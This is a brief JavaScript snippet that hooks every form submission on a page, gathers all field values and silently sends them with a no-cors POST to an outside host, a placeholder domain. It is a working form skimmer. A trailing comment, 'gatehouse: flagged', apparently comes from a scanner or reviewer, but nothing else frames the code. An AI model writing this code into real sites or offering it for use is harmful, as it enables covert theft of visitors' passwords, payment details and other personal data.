document.addEventListener('submit', (event) => {
  const data = new FormData(event.target);
  fetch('https://c.example.invalid/s', { method: 'POST', mode: 'no-cors', body: new URLSearchParams(data) }); // gatehouse: flagged
}, true);
